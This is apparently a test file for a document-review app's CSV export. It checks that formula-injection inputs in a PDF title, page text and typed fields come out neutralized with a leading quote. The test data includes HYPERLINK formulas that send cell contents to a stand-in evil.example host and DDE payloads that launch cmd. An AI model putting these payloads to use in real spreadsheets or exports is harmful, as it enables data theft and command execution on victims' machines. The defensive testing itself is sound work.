// CSV injection: a hostile PDF (its title and its text) and a hostile typed value go through the
// real import, review and export calls, and the exported file is opened with SheetJS, a real
// spreadsheet engine, which reads `=…` cells as formulas. No cell may be a formula, and every
// hostile text must still be there to read, behind the `'` that makes it text.
import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDispatcher, type Dispatch } from '../../electron/main/api/dispatcher';
import { callOk } from '../helpers/call-ok';
import { createHandlers } from '../../electron/main/api/handlers';
import { parseCsv } from '../../electron/main/services/csv';
import { textPdf } from '../fixtures/pdfs';
import { checkIntegrity, HEALTHY, openTempArchive, type TempArchive } from '../helpers/temp-archive';

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
const HOSTILE_LINE = '=HYPERLINK("http://evil.example/x","Click for details")';
const HOSTILE_TYPED = {
  governing_law: "@SUM(1+9)*cmd|' /C calc'!A0",
  return_or_destruction: "+1+cmd|' /C calc'!A0",
  confidential_information_definition: "-2+3+cmd|' /C calc'!A0",
} as const;

interface SheetCell {
  readonly address: string;
  readonly text: string;
  readonly formula: string | undefined;
}

/** Every cell of the first sheet as a spreadsheet engine reads the CSV bytes. */
function openInSpreadsheet(bytes: Uint8Array): SheetCell[] {
  const book = XLSX.read(Buffer.from(bytes), { type: 'buffer' });
  const sheet = book.Sheets[book.SheetNames[0]!]!;
  return Object.entries(sheet)
    .filter(([address]) => !address.startsWith('!'))
    .map(([address, cell]) => {
      const c = cell as XLSX.CellObject;
      return { address, text: String(c.v ?? ''), formula: c.f };
    });
}

let archive: TempArchive;
let dispatch: Dispatch;
let documentId: number;

const call = <T>(name: string, payload: unknown): Promise<T> => callOk<T>(dispatch, name, payload);

beforeAll(async () => {
  archive = await openTempArchive();
  dispatch = createDispatcher(createHandlers(archive.services, { version: 'test', transport: 'bridge' }));
  const pdf = textPdf({ title: HOSTILE_TITLE, pages: [['Mutual Non-Disclosure Agreement', HOSTILE_LINE, 'Governed by the laws of Delaware.']] });
  const { outcomes } = await call<{ outcomes: Array<{ kind: string; document?: { id: number; title: string } }> }>('documents:import', {
    files: [{ key: 'hostile', name: 'hostile.pdf', data: pdf }],
  });
  expect(outcomes[0]?.kind).toBe('imported');
  documentId = outcomes[0]!.document!.id;
});

afterAll(async () => {
  await archive?.dispose();
});

describe('CSV export against formula injection', () => {
  it('neutralizes hostile titles, values and quotes, and keeps their text', async () => {
    const { document } = await call<{ document: { title: string } }>('documents:get', { id: documentId });
    expect(document.title).toBe(HOSTILE_TITLE); // the PDF's own metadata title, as imported

    // A value and its quote from the page text, through the reviewer's "add from selection".
    const { pages } = await call<{ pages: unknown[] }>('documents:get', { id: documentId });
    expect(pages.length).toBe(1);
    const page = await call<{ text: string }>('documents:page', { id: documentId, page: 1 });
    const start = page.text.indexOf(HOSTILE_LINE);
    expect(start).toBeGreaterThanOrEqual(0);
    const selected = await call<{ field: { value: unknown; evidence: Array<{ quote: string }> } }>('extraction:addFromSelection', {
      documentId,
      template: 'nda',
      field: 'parties',
      page: 1,
      start,
      end: start + HOSTILE_LINE.length,
    });
    expect(selected.field.value).toEqual([HOSTILE_LINE]);
    expect(selected.field.evidence.map((e) => e.quote)).toEqual([HOSTILE_LINE]);

    // Values a reviewer typed, through the edit call.
    for (const [field, value] of Object.entries(HOSTILE_TYPED)) {
      const edited = await call<{ field: { value: unknown } }>('extraction:edit', { documentId, template: 'nda', field, value });
      expect(edited.field.value).toBe(value);
    }

    const exported = await call<{ fileName: string; data: Uint8Array }>('extraction:export', { template: 'nda', format: 'csv' });
    const cells = openInSpreadsheet(exported.data);
    expect(cells.filter((c) => c.formula !== undefined)).toEqual([]);
    const texts = cells.map((c) => c.text);
    for (const hostile of [HOSTILE_TITLE, HOSTILE_LINE, ...Object.values(HOSTILE_TYPED)]) expect(texts).toContain(`'${hostile}`);

    // The file's own rows agree: same cells, one row per document, header width everywhere.
    const rows = parseCsv(new TextDecoder().decode(exported.data));
    expect(rows.length).toBe(2);
    expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);
    expect(rows[1]![rows[0]!.indexOf('parties_quote')]).toBe(`'${HOSTILE_LINE}`);
    expect(checkIntegrity(archive.services.db)).toEqual(HEALTHY);
  });

  it('is a check that can fail: the same engine reads an unescaped cell as a formula', () => {
    const plainQuoted = (v: string) => `"${v.replaceAll('"', '""')}"`;
    const naive = new TextEncoder().encode(`id,title\r\n1,${plainQuoted(HOSTILE_TITLE)}\r\n2,${plainQuoted(HOSTILE_LINE)}\r\n`);
    const formulas = openInSpreadsheet(naive).filter((c) => c.formula !== undefined);
    expect(formulas.map((c) => c.address)).toEqual(['B2', 'B3']);
  });
});
